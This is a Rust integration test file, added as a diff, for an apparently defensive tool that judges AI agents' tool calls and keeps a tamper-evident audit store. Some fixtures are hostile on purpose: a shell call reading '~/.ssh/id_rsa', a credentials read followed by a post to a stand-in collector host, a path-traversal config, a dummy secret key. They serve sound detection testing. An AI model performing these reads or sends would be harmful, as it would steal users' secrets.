@@ -1,0 +1,449 @@
+//! The store of evaluations: what is in it, that it verifies whoever is killed, and what sessions remember from run to run.
+
+#![cfg(feature = "audit")]
+#![expect(clippy::expect_used, reason = "a test says what must be there by expecting it")]
+
+use std::collections::HashSet;
+use std::fs;
+use std::io::{BufRead as _, BufReader, Write as _};
+use std::ops::ControlFlow;
+use std::path::Path;
+use std::process::{Command, Output, Stdio};
+use std::thread;
+use std::time::{Duration, Instant};
+
+use callgate::audit::prune::Pruning;
+use callgate::audit::query::Filter;
+use callgate::audit::record::{Pending, Record};
+use callgate::audit::store::Store;
+use callgate::audit::{AuditError, Scope};
+use callgate::finding::trail::{Step, call_key};
+use callgate::value::severity::Severity;
+use callgate::value::time::DAY;
+use callgate::value::verdict::Verdict;
+use serde_json::{Value, json};
+use tempfile::TempDir;
+
+const CALLGATE: &str = env!("CARGO_BIN_EXE_callgate");
+
+fn command(home: &Path, words: &[&str]) -> Command {
+    let mut command = Command::new(CALLGATE);
+    command.args(words).current_dir(home).env_clear().env("HOME", home);
+    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
+    command
+}
+
+fn callgate(home: &Path, words: &[&str], stdin: &str) -> Output {
+    let mut child = command(home, words).spawn().expect("callgate starts");
+    child.stdin.take().expect("it has an input").write_all(stdin.as_bytes()).expect("it reads");
+    child.wait_with_output().expect("it ends")
+}
+
+fn stdout(output: &Output) -> String {
+    String::from_utf8_lossy(&output.stdout).into_owned()
+}
+
+/// All that is exported of a store.
+fn exported(home: &Path, words: &[&str]) -> Vec<Value> {
+    let output = callgate(home, &[&["audit", "export", "--store", "a.db"], words].concat(), "");
+    assert_eq!(output.status.code(), Some(0), "{output:?}");
+    stdout(&output).lines().map(|line| serde_json::from_str(line).expect("a line is JSON")).collect()
+}
+
+fn verifies(home: &Path) -> bool {
+    let output = callgate(home, &["audit", "verify", "--store", "a.db"], "");
+    assert!(matches!(output.status.code(), Some(0 | 2)), "{output:?}");
+    output.status.code() == Some(0)
+}
+
+/// A call of a tool as a line.
+fn call(number: usize, session: &str) -> String {
+    json!({"id": format!("call-{number}"), "name": "notes:list", "arguments": {"page": number}, "session_id": session}).to_string()
+}
+
+fn record(at: i64, verdict: Verdict) -> Pending {
+    let is_clean = verdict == Verdict::Allow;
+    let record = Record {
+        id: callgate::audit::record::Id::now_v7(),
+        at,
+        tenant: None,
+        session: None,
+        agent: None,
+        path: format!("src/features/area-{}/module-{}.js", at % 97, at % 10_007),
+        number: None,
+        kind: Some("script".into()),
+        lifecycle: Some("pre-tool-call".into()),
+        tool: None,
+        tool_call_id: None,
+        input_timestamp: None,
+        subject: Some([7; 16]),
+        patterns: (!is_clean).then(|| if at % 2 == 0 { "loop-fan-out".to_owned() } else { "2*secret-read wildcard-query".to_owned() }),
+        match_count: u32::from(!is_clean) * 2,
+        score: Some(if is_clean { 0.0 } else { 40.0 }),
+        severity: (!is_clean).then_some(Severity::High),
+        action: verdict.name().into(),
+        reason: if is_clean { "clean" } else { "severity" }.into(),
+        rule: None,
+        verdict,
+        undetermined: None,
+        models: "hybrid".to_owned(),
+        scores: None,
+        duration: Some(1_234),
+        library: "0123456789abcdef".to_owned(),
+        version: "0.1.0".into(),
+    };
+    Pending { record, step: Step::default() }
+}
+
+fn all(store: &Store) -> Vec<Record> {
+    let mut records = Vec::new();
+    let visited = store.visit(&Filter::default(), |kept| {
+        records.push(kept.record);
+        ControlFlow::Continue(())
+    });
+    visited.expect("the store is read");
+    records
+}
+
+#[test]
+fn what_is_written_is_read_and_verifies_and_what_is_changed_does_not() {
+    let home = TempDir::new().expect("a folder can be made");
+    let path = home.path().join("a.db");
+    let mut store = Store::open(&path).expect("a store is made");
+    let batch: Vec<Pending> = (0..50).map(|at| record(at, if at % 3 == 0 { Verdict::Block } else { Verdict::Allow })).collect();
+    store.append(&batch).expect("it is written");
+    assert_eq!(all(&store), batch.iter().map(|pending| pending.record.clone()).collect::<Vec<_>>());
+    let verified = store.verify().expect("it is read");
+    assert_eq!((verified.broken, verified.chains.len()), (None, 2));
+    store.settle().expect("it is written");
+    drop(store);
+    for statement in [
+        "UPDATE record SET verdict = 1 WHERE seq = 1",
+        "UPDATE record SET path = 'other.js' WHERE seq = 20",
+        "DELETE FROM record WHERE seq = 25",
+        "DELETE FROM record WHERE seq = 50",
+        "UPDATE name SET text = 'wildcard-query' WHERE text = 'loop-fan-out'",
+        "UPDATE record SET hash = zeroblob(32) WHERE seq = 49",
+    ] {
+        let copy = home.path().join("copy.db");
+        for name in ["copy.db-wal", "copy.db-shm"] {
+            let _ = fs::remove_file(home.path().join(name));
+        }
+        fs::copy(&path, &copy).expect("it is copied");
+        let hostile = rusqlite::Connection::open(&copy).expect("it is opened");
+        assert!(0 < hostile.execute(statement, []).expect("it is changed"), "{statement}");
+        drop(hostile);
+        let broken = Store::open(&copy).expect("it is a store").verify().expect("it is read").broken;
+        assert!(broken.is_some(), "{statement}");
+    }
+}
+
+#[test]
+fn pruning_takes_the_beginning_of_each_chain_and_the_rest_verifies() {
+    let home = TempDir::new().expect("a folder can be made");
+    let mut store = Store::open(&home.path().join("a.db")).expect("a store is made");
+    let batch: Vec<Pending> = (0..100).map(|day| record(day * DAY, if day % 2 == 0 { Verdict::Warn } else { Verdict::Allow })).collect();
+    store.append(&batch).expect("it is written");
+    let pruning = Pruning { before: Some(20 * DAY), clean_before: Some(90 * DAY), ..Pruning::default() };
+    let dry = store.prune(&Pruning { is_dry: true, ..pruning.clone() }, 0).expect("it is read");
+    let pruned = store.prune(&pruning, 0).expect("it is pruned");
+    assert_eq!((pruned, pruned.evaluations, pruned.clean), (dry, 10, 45));
+    let (left, verified) = (all(&store), store.verify().expect("it is read"));
+    assert!(left.len() == 45 && left.iter().all(|record| 20 * DAY <= record.at), "{left:?}");
+    assert!(verified.broken.is_none(), "{verified:?}");
+    store.append(&[record(100 * DAY, Verdict::Block)]).expect("it goes on");
+    store.prune(&Pruning { keep: Some(3), ..Pruning::default() }, 0).expect("it is pruned");
+    assert_eq!(all(&store).iter().filter(|record| !record.is_clean()).count(), 3);
+    assert!(store.verify().expect("it is read").broken.is_none());
+}
+
+#[test]
+fn two_tenants_see_nothing_of_each_other() {
+    let home = TempDir::new().expect("a folder can be made");
+    let mut store = Store::open(&home.path().join("a.db")).expect("a store is made");
+    let of = |tenant: &str, at| {
+        let mut pending = record(at, Verdict::Block);
+        pending.record.tenant = Some(tenant.to_owned());
+        pending.record.session =
+            Some(callgate::audit::record::SessionName { key: callgate::finding::trail::text_key("s"), text: "s".to_owned() });
+        pending.step = Step { session: Some("s".to_owned()), calls: vec![call_key(tenant)], ..Step::default() };
+        pending
+    };
+    store.append(&[of("a", 1), of("b", 2), of("a", 3)]).expect("it is written");
+    let seen = |scope: Scope| {
+        let mut times = Vec::new();
+        let filter = Filter { scope: Some(scope), ..Filter::default() };
+        let visited = store.visit(&filter, |kept| {
+            times.push(kept.record.at);
+            ControlFlow::Continue(())
+        });
+        visited.expect("the store is read");
+        times
+    };
+    let in_session = |tenant: &str| Scope { session: Some("s".to_owned()), ..Scope::of_tenant(Some(tenant)) };
+    assert_eq!((seen(in_session("a")), seen(in_session("b"))), (vec![1, 3], vec![2]));
+    assert_eq!(seen(Scope::default()), Vec::<i64>::new());
+    let past = |tenant: &str| store.past(Some(tenant), "s").expect("it is read").calls;
+    assert_eq!((past("a").get(&call_key("a")), past("a").get(&call_key("b"))), (Some(&2), None));
+    assert_eq!(past("b").get(&call_key("b")), Some(&1));
+}
+
+#[test]
+fn only_a_store_is_opened_as_one() {
+    let home = TempDir::new().expect("a folder can be made");
+    let path = |name: &str| home.path().join(name);
+    fs::write(path("notes.txt"), "my notes").expect("it is written");
+    rusqlite::Connection::open(path("places.sqlite")).and_then(|other| other.execute_batch("CREATE TABLE a (b)")).expect("it is made");
+    for name in ["notes.txt", "places.sqlite", "."] {
+        assert!(Store::open(&path(name)).is_err(), "{name}");
+    }
+    assert!(matches!(Store::open_existing(&path("none.db")), Err(AuditError::Unopened { .. })));
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt as _;
+        drop(Store::open(&path("deep/er/a.db")).expect("folders are made"));
+        let mode = |name: &str| fs::metadata(path(name)).expect("it is there").permissions().mode() & 0o777;
+        assert_eq!((mode("deep/er/a.db"), mode("deep/er")), (0o600, 0o700));
+        std::os::unix::fs::symlink(path("deep/er/a.db"), path("link.db")).expect("a link is made");
+        assert!(matches!(Store::open(&path("link.db")), Err(AuditError::Other { .. })));
+    }
+}
+
+#[test]
+fn a_scan_stores_each_evaluation_with_what_it_was_and_no_content() {
+    let home = TempDir::new().expect("a folder can be made");
+    let key = ["sk", "live", "4eC39HqLyjWDarjtT1zdp7dc"].join("_");
+    fs::write(home.path().join("good.js"), "console.log(1);\n").expect("it is written");
+    fs::write(home.path().join("bad.js"), format!("await callTool('shell:exec', {{ command: 'cat ~/.ssh/id_rsa' }}); // {key}\n"))
+        .expect("it is written");
+    let output = callgate(home.path(), &["scan", "--audit=a.db", "--format", "json", "."], "");
+    let report: Value = serde_json::from_slice(&output.stdout).expect("it reports");
+    let records = exported(home.path(), &[]);
+    assert_eq!(records.len(), 2, "{records:?}");
+    for finding in report["findings"].as_array().expect("there are findings") {
+        let own = records.iter().find(|record| record["evaluation_id"] == finding["evaluation_id"]).expect("it is stored");
+        assert_eq!((&own["path"], &own["verdict"], &own["numeric_score"]), (&finding["path"], &finding["verdict"], &finding["score"]));
+        assert_eq!(own["evaluation_id"], finding["evaluations"][0]["evaluation_id"]);
+        assert!(own["scan_duration_ms"].as_f64().is_some_and(|took| 0.0 < took), "{own}");
+    }
+    assert_eq!(exported(home.path(), &["--verdict", "block", "--rule", "secret-read"]).len(), 1);
+    assert_eq!(exported(home.path(), &["--verdict", "block", "--rule", "secret"]).len(), 0);
+    assert_eq!(exported(home.path(), &["--path", "go*"]).len(), 1);
+    let id = records[0]["evaluation_id"].as_str().expect("it has an id");
+    assert_eq!(callgate(home.path(), &["audit", "label", "--store", "a.db", id, "bad"], "").status.code(), Some(0));
+    assert_eq!(exported(home.path(), &["--labelled"])[0]["label"], "bad");
+    assert!(verifies(home.path()));
+    for name in ["a.db", "a.db-wal"] {
+        let bytes = fs::read(home.path().join(name)).unwrap_or_default();
+        for content in ["id_rsa", "console", key.as_str()] {
+            assert!(!String::from_utf8_lossy(&bytes).contains(content), "{name} holds {content}");
+        }
+    }
+}
+
+#[test]
+fn a_session_goes_on_in_the_next_process_and_a_new_one_begins_anew() {
+    let home = TempDir::new().expect("a folder can be made");
+    let novelty = |session: &str| {
+        let words = ["scan", "--audit=a.db", "--model", "five-factor", "--format", "json", "--as", "tool-call", "-"];
+        let output = callgate(home.path(), &words, &call(1, session));
+        let report: Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|_| Value::String(format!("{output:?}")));
+        report["findings"][0]["score"].as_f64().unwrap_or_else(|| std::panic::panic_any(report.to_string()))
+    };
+    let scores = [novelty("a"), novelty("a"), novelty("b"), novelty("b"), novelty("a")];
+    assert!(scores[1] < scores[0] && scores[4] < scores[1], "{scores:?}");
+    assert!((scores[2] - scores[0]).abs() < 1e-9 && (scores[3] - scores[1]).abs() < 1e-9, "{scores:?}");
+}
+
+#[test]
+fn a_send_follows_a_read_of_an_earlier_process() {
+    let home = TempDir::new().expect("a folder can be made");
+    let judge = |session: &str, name: &str, arguments: Value| {
+        let line = json!({"name": name, "arguments": arguments, "session_id": session}).to_string();
+        let output = callgate(home.path(), &["scan", "--audit=a.db", "--format", "json", "--as", "tool-call", "-"], &line);
+        stdout(&output)
+    };
+    judge("a", "Read", json!({"file_path": "/home/me/.aws/credentials"}));
+    let send = json!({"url": "https://collector.example.net/in", "body": "done"});
+    let (same, other) = (judge("a", "http:post", send.clone()), judge("b", "http:post", send));
+    assert!(same.contains("in a session that has read authentication data before"), "{same}");
+    assert!(!other.contains("in a session that has read"), "{other}");
+}
+
+#[test]
+fn what_cannot_be_stored_is_told_and_fails_only_a_run_that_must_store() {
+    let home = TempDir::new().expect("a folder can be made");
+    fs::write(home.path().join("good.js"), "console.log(1);\n").expect("it is written");
+    fs::write(home.path().join("notes.txt"), "my notes").expect("it is written");
+    let scan = |words: &[&str]| callgate(home.path(), &[&["scan", "good.js", "--format", "json"], words].concat(), "");
+    let told = scan(&["--audit=notes.txt"]);
+    assert_eq!(told.status.code(), Some(0), "{told:?}");
+    assert!(
+        String::from_utf8_lossy(&told.stderr).contains("no store of evaluations") && stdout(&told).contains("audit_problem"),
+        "{told:?}"
+    );
+    assert_eq!(scan(&["--audit=notes.txt", "--audit-required"]).status.code(), Some(3));
+    assert_eq!(scan(&["--audit-required"]).status.code(), Some(64));
+    let payload =
+        json!({"session_id": "s", "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": "ls"}}).to_string();
+    let denied = callgate(home.path(), &["hook", "claude-code", "--audit=notes.txt", "--audit-required"], &payload);
+    assert!(stdout(&denied).contains("deny") || denied.status.code() == Some(2), "{denied:?}");
+    assert_eq!(fs::read_to_string(home.path().join("notes.txt")).expect("it is there"), "my notes");
+}
+
+#[test]
+fn settings_that_come_with_the_folder_say_nothing_of_stores() {
+    let home = TempDir::new().expect("a folder can be made");
+    let project = home.path().join("project");
+    fs::create_dir_all(&project).expect("a folder is made");
+    fs::write(project.join("good.js"), "console.log(1);\n").expect("it is written");
+    let scan = |words: &[&str], variable: &str| {
+        let words = [&["scan", "good.js"], words].concat();
+        let output = command(home.path(), &words).current_dir(&project).env("CALLGATE_AUDIT", variable).output().expect("it runs");
+        output.status.code()
+    };
+    let store = home.path().join("own.db");
+    let own = store.to_str().expect("it is a text");
+    assert_eq!((scan(&[], own), store.exists()), (Some(0), true));
+    for hostile in ["audit: {path: ../../x.db}", "audit: {enabled: false}"] {
+        fs::write(project.join("callgate.yaml"), hostile).expect("it is written");
+        assert_eq!(scan(&[], own), Some(3), "{hostile}");
+        assert!(!home.path().join("x.db").exists());
+    }
+    fs::remove_file(project.join("callgate.yaml")).expect("it is there");
+    let settings = home.path().join("named.yaml");
+    fs::write(&settings, "audit: {path: named.db}").expect("it is written");
+    assert_eq!(scan(&["--config", settings.to_str().expect("it is a text")], ""), Some(0));
+    assert!(home.path().join("named.db").exists());
+    assert_eq!(scan(&["--audit", "good.js"], ""), Some(64), "a script is no store");
+}
+
+/// So many processes answer so many lines each into one store, and half of them are killed at some time. What was answered is
+/// stored, once, and the store verifies.
+fn killed(processes: usize, lines: usize) {
+    let home = TempDir::new().expect("a folder can be made");
+    let start = Instant::now();
+    let answered: Vec<(usize, bool, HashSet<usize>)> = thread::scope(|scope| {
+        let runs: Vec<_> = (0..processes)
+            .map(|process| {
+                (
+                    process,
+                    scope.spawn({
+                        let home = home.path();
+                        move || answered_by(home, process, lines)
+                    }),
+                )
+            })
+            .collect();
+        runs.into_iter()
+            .map(|(process, run)| {
+                let (is_killed, answered) = run.join().expect("it ends");
+                (process, is_killed, answered)
+            })
+            .collect()
+    });
+    let took = start.elapsed();
+    assert!(verifies(home.path()));
+    let mut stored: HashSet<(String, String)> = HashSet::new();
+    for record in exported(home.path(), &[]) {
+        let text = |key: &str| record[key].as_str().unwrap_or_default().to_owned();
+        assert!(stored.insert((text("session_id"), text("tool_call_id"))), "twice: {record}");
+    }
+    let mut completed = 0;
+    for (process, is_killed, answered) in answered {
+        completed += answered.len();
+        for number in &answered {
+            assert!(
+                stored.contains(&(format!("s{process}"), format!("call-{number}"))),
+                "{process} {number} was answered and is not stored"
+            );
+        }
+        assert!(is_killed || answered.len() == lines, "{process} answered {} of {lines}", answered.len());
+    }
+    let told = format!("{processes} processes, {completed} answered, {} stored, {took:?}\n", stored.len());
+    let _ = std::io::stderr().write_all(told.as_bytes());
+}
+
+/// The calls that a process answered, and whether it was killed.
+fn answered_by(home: &Path, process: usize, lines: usize) -> (bool, HashSet<usize>) {
+    let mut child =
+        command(home, &["scan", "--audit=a.db", "--format", "jsonl", "--verbose", "--as", "tool-call", "-"]).spawn().expect("it starts");
+    let mut stdin = child.stdin.take().expect("it has an input");
+    let reader = BufReader::new(child.stdout.take().expect("it has an output"));
+    let input: String = (0..lines).map(|number| format!("{}\n", call(number, &format!("s{process}")))).collect();
+    let writer = thread::spawn(move || {
+        // One that is killed reads no further.
+        let _ = stdin.write_all(input.as_bytes());
+    });
+    let is_killed = process % 2 == 1;
+    let after = lines * (process * 7 % 10 + 1) / 12;
+    let mut answered = HashSet::new();
+    for line in reader.lines().map_while(Result::ok) {
+        let answer: Value = serde_json::from_str(&line).unwrap_or_default();
+        if let Some(number) = answer["record"]["id"].as_str().and_then(|id| id.strip_prefix("call-")?.parse().ok()) {
+            answered.insert(number);
+        }
+        if is_killed && after <= answered.len() {
+            let _ = child.kill();
+        }
+    }
+    let _ = child.wait();
+    let _ = writer.join();
+    (is_killed, answered)
+}
+
+#[test]
+fn killed_processes_lose_nothing_that_they_answered() {
+    killed(6, 60);
+}
+
+#[test]
+#[ignore = "takes a while: cargo test --release --test audit -- --ignored --nocapture"]
+fn many_killed_processes_lose_nothing_that_they_answered() {
+    killed(20, 500);
+}
+
+#[test]
+#[ignore = "takes a while: cargo test --release --test audit -- --ignored --nocapture"]
+fn a_million_evaluations_are_written_fast_lie_close_and_are_counted_at_once() {
+    let home = TempDir::new().expect("a folder can be made");
+    let path = home.path().join("a.db");
+    let mut store = Store::open(&path).expect("a store is made");
+    let verdict = |at: i64| {
+        if at % 10 == 0 {
+            Verdict::Block
+        } else if at % 10 == 1 {
+            Verdict::Warn
+        } else {
+            Verdict::Allow
+        }
+    };
+    let start = Instant::now();
+    let mut writing = Duration::ZERO;
+    for batch in 0..1_000 {
+        let batch: Vec<Pending> = (0..1_000).map(|nth| batch * 1_000 + nth).map(|at| record(at * 8_000, verdict(at))).collect();
+        let own = Instant::now();
+        store.append(&batch).expect("it is written");
+        writing += own.elapsed();
+    }
+    let written = start.elapsed();
+    let start = Instant::now();
+    let days = store.days(&Filter { scope: Some(Scope::default()), ..Filter::default() }).expect("it is read");
+    let counted = start.elapsed();
+    let start = Instant::now();
+    let rules = store.rules(&Filter { scope: Some(Scope::default()), ..Filter::default() }).expect("it is read");
+    let by_rule = start.elapsed();
+    let start = Instant::now();
+    assert!(store.verify().expect("it is read").broken.is_none());
+    let verified = start.elapsed();
+    drop(store);
+    let size = fs::metadata(&path).expect("it is there").len();
+    let told = format!(
+        "written in {writing:?} (with making them {written:?}), {size} bytes, {} days in {counted:?}, {} rules in {by_rule:?}, verified in {verified:?}\n",
+        days.len() / 3,
+        rules.len()
+    );
+    let _ = std::io::stderr().write_all(told.as_bytes());
+    assert_eq!(days.iter().map(|count| count.evaluations).sum::<u64>(), 1_000_000);
+    assert!(size < 300_000_000, "{size}");
+}
